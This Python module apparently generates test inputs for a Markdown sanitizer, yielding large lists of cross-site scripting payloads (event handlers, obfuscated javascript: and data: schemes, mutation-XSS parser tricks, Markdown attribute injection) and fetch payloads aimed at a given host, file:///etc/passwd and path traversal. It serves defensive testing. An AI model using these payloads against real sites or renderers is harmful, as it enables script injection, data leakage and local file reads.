"""Markdown that means harm: scripts in every hiding place that we know, and everything that would fetch something."""

from collections.abc import Iterator

RUN = "alert(1)"
HANDLERS = ("onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationend", "onbeforematch")
CARRIERS = (
    "<p {on}>x</p>", "<a href='#' {on}>x</a>", "<b {on}>x</b>", "<img src=x {on}>", "<details open {on}>x</details>",
    "<td {on}>x", "<svg {on}></svg>", "<body {on}>", "<video src=x {on}></video>", "<input autofocus {on}>",
    "<h2 {on}>x</h2>", "<your {on}>", "<x-y {on}>x</x-y>", "<p/{on}>x</p>", "<p\n{on}\n>x</p>",
    "<p title='a'{on}>x</p>", "<marquee {on}>x</marquee>", "<math {on}><mi>x</mi></math>",
    "<section {on} markdown='1'>x</section>",
)  # fmt: skip
ON = ('{name}="{run}"', "{name}='{run}'", "{name}={run}", "{name} = `{run}`", "{upper}={run}")
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#9;script:alert(1)", "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript&#58;alert(1)", "&#0000106avascript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "&Tab;javascript:alert(1)", "javascript:alert(1)//http://host.example",
    "javascript://host.example/%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:http://host.example!/x", "livescript:x",
    "mocha:x", "blob:http://host.example/x", "filesystem:http://host.example/x", "file:///etc/passwd",
    "\\javascript:alert(1)", "java\\script:alert(1)", "javascript\\:alert(1)", "%6Aavascript:alert(1)",
)  # fmt: skip
LINKS = (
    "[x]({to})", "[x](<{to}>)", "[x][r]\n\n[r]: {to}", "[x][r]\n\n[r]: <{to}>", "<{to}>", "![x]({to})",
    '[x]({to} "title")', "[![x]({to})]({to})", '<a href="{to}">x</a>', "<a href={to}>x</a>",
    "[x](#a){{: href='{to}'}}", "[x](#a){{ href='{to}' }}", "# x {{: href='{to}'}}", "<img src='{to}'>",
    "<form action='{to}'><button>x</button>", "<button formaction='{to}'>x</button>", "<iframe src='{to}'></iframe>",
    "<object data='{to}'></object>", "<embed src='{to}'>", "<svg><a xlink:href='{to}'><text>x</text></a></svg>",
    "<math href='{to}'>x</math>", "<meta http-equiv=refresh content='0;url={to}'>", "<base href='{to}'>",
    "<area href='{to}'>", "<q cite='{to}'>x</q>", "<blockquote cite='{to}'>x</blockquote>",
    "<ins cite='{to}'>x</ins>",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script >alert(1)</script >",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script>alert(1)", "</p><script>alert(1)</script>",
    "<script src=//host.example/x.js></script>", "<script type=module>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>", "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>", "<!--<script>alert(1)--></script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?x <script>alert(1)</script> ?>", "<!x><script>alert(1)</script>", "</ script><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>", "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>", "<noembed><script>alert(1)</script></noembed>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>", "<applet code=x></applet>",
    "<link rel=import href=//host.example>", "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>", "<style>*{x:expression(alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//host.example/x.xml#x)'>x</p>",
    "<table background='javascript:alert(1)'><td>x</table>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>", "<svg><foreignObject><script>alert(1)</script>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<frameset><frame src=javascript:alert(1)>",
    # What one parser takes for text and the next for a tag
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<p title='--><script>alert(1)</script>'>x</p>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><option><style></option></select><b onclick=alert(1)>x</b>",
    "<a title='</textarea><script>alert(1)</script>'>",
    "<svg><desc><p title='</desc><img src=x onerror=alert(1)>'></desc></svg>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<table><caption><svg><style></caption><img src=x onerror=alert(1)></style></svg></table>",
    # What takes names that the page's own script may ask for
    "<form id=documentElement><input name=attributes></form>", "<img name=getElementById>",
    "<a id=x name=y href=cid:x>x</a>",
    # Marks of Markdown that become attributes
    "[x](#a){onclick=alert(1)}", "[x](#a){: onclick='alert(1)' }", "# x {onmouseover=alert(1)}",
    "x\n{: onclick=alert(1)}", "*x*{style='position:fixed'}", "# x {#a\" onclick=\"alert(1)}",
    "# \"><script>alert(1)</script>", "| a |\n|--|\n| x{onclick=alert(1)} |", "x\n\n*[x]: \" onmouseover=\"alert(1)",
    "x\n\n*[x]: <script>alert(1)</script>", "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^a\" onclick=\"b]\n\n[^a\" onclick=\"b]: y", "!!! note\" onclick=\"alert(1) \"x\"\n    y",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    y", "!!! <script>alert(1)</script>\n    y",
    "```\"><script>alert(1)</script>\nx\n```", "``` {.x onclick=alert(1)}\nx\n```",
    "``` { #a\"onclick=\"alert(1) }\nx\n```", "<div markdown='1' onclick='alert(1)'>\n*x*\n</div>",
    "<script markdown='1'>\nalert(1)\n</script>", "<div markdown='1'><script>alert(1)</script></div>",
    "![x\" onerror=\"alert(1)](x.png)", "![x](x.png\" onerror=\"alert(1))", "![x](x.png 'a\" onerror=\"alert(1)')",
    "[x](http://host.example/\" onclick=\"alert(1))", "[x]: http://host.example/\"onclick=\"alert(1)\n\n[x]",
    "<http://host.example/\" onclick=\"alert(1)>", "<a@b.example\" onclick=\"alert(1)>",
    "<javascript:alert(1)@b.example>", "term\n: <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`<script>alert(1)</script>", "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # What the reading of words in brackets might let through
    "<your <script>alert(1)</script> name>", "<your name='<img src=x onerror=alert(1)>'>",
    "<your\nname onclick=alert(1)>", "<your name\\><script>alert(1)</script>", "<your&gt;<script>alert(1)</script>",
    "<a<your name>onclick=alert(1)>x",
    # What looks like the parser's own placeholders
    "klzzwxh:0000 wzxhzdk:0 <script>alert(1)</script>", "&#2;wzxhzdk:0&#3;<script>alert(1)</script>",
    "&#2;60&#3;script&#2;62&#3;",
)  # fmt: skip
# Where a text may stand; what is harmless alone may not be so inside.
AROUND = ("{}", "- a\n\n    {}", "> {}", "| a |\n|---|\n| {} |", "<div markdown='1'>\n{}\n</div>", "a {} *b*", "# {}")

# {to} is an address; each would make a browser or a maker of PDFs ask for it, were it let through.
FETCHES = (
    "![x]({to})", "![x][r]\n\n[r]: {to}", "<img src='{to}' alt=x>", "<img srcset='{to} 2x' alt=x>",
    "<img lowsrc='{to}'>", "<picture><source srcset='{to}'><img src='{to}'></picture>",
    "<video poster='{to}' src='{to}'></video>", "<audio src='{to}' autoplay></audio>", "<track src='{to}'>",
    "<object data='{to}'>x</object>", "<embed src='{to}'>", "<iframe src='{to}'>x</iframe>", "<frame src='{to}'>",
    "<link rel=stylesheet href='{to}'>", "<link rel=icon href='{to}'>", "<link rel=preload as=image href='{to}'>",
    "<link rel=attachment href='{to}'>", "<a rel=attachment href='{to}'>x</a>", "<a href='#' ping='{to}'>x</a>",
    "<style>@import '{to}';</style>", "<style>p{{background:url({to})}}</style>",
    "<style>@font-face{{font-family:f;src:url({to})}}</style>", "<p style='background:url({to})'>x</p>",
    "<ul style='list-style-image:url({to})'><li>x</ul>", "<p style='content:url({to})'>x</p>",
    "<body background='{to}'>", "<table background='{to}'><tr><td background='{to}'>x</table>",
    "<input type=image src='{to}'>", "<script src='{to}'></script>", "<svg><image href='{to}'/></svg>",
    "<svg><image xlink:href='{to}'/></svg>", "<svg><use href='{to}#x'/></svg>",
    "<svg><filter><feImage href='{to}'/></filter></svg>", "<svg><style>@import '{to}';</style></svg>",
    "<base href='{to}'><img src=x>", "<meta http-equiv=refresh content='0;url={to}'>", "<html manifest='{to}'>",
    "<head profile='{to}'>", "<!DOCTYPE x SYSTEM '{to}'><p>x", "<?xml-stylesheet href='{to}'?><p>x",
    "[x](mailto:a@b){{: style='background:url({to})'}}", "![x](x.png){{: src='{to}' srcset='{to} 1x'}}",
    "# x {{: background='{to}'}}", "<math><mglyph src='{to}'/></math>", "<!--#include file='{to}'-->x",
    "{{{{ include '{to}' }}}}", "{{% include '{to}' %}}", '--8<-- "{to}"', "!INCLUDE {to}",
)  # fmt: skip
ADDRESSES = (
    "http://{host}/x.png", "//{host}/x.png", "file:///etc/passwd", "/etc/passwd", "../../../../etc/passwd",
    "ftp://{host}/x", "asset:../../etc/passwd", "data:image/svg+xml,<svg><image href=%22http://{host}/%22/></svg>",
)  # fmt: skip


def scripts() -> Iterator[str]:
    """Yield every text that would run something: tags, handlers, addresses, marks."""
    yield from SCRIPTS
    for carrier in CARRIERS:
        for place, name in enumerate(HANDLERS):
            on = ON[place % len(ON)].format(name=name, upper=name.upper(), run=RUN)
            yield carrier.format(on=on)
    for link in LINKS:
        for scheme in SCHEMES:
            yield link.format(to=scheme)


def fetches(host: str) -> Iterator[str]:
    """Yield every text that would fetch something from this host, or from a file."""
    for address in ADDRESSES:
        to = address.format(host=host)
        yield from (text.format(to=to) for text in FETCHES)
